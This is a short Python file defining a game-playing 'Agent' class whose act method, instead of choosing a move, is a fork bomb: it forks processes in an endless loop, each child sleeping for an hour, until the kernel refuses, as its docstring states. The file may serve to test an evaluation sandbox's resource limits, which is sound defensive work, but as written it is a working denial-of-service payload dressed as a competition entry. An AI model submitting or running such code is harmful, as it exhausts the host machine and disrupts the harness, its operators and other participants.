"""Forks until the kernel refuses; every child sleeps on."""

import os
import time
from typing import Any


class Agent:
    def reset(self, seat: int, game_info: dict[str, Any]) -> None:
        pass

    def act(self, observation: Any, action_mask: Any) -> int:
        forked = 0
        while True:
            if os.fork() == 0:
                time.sleep(3600)
                os._exit(0)
            forked += 1
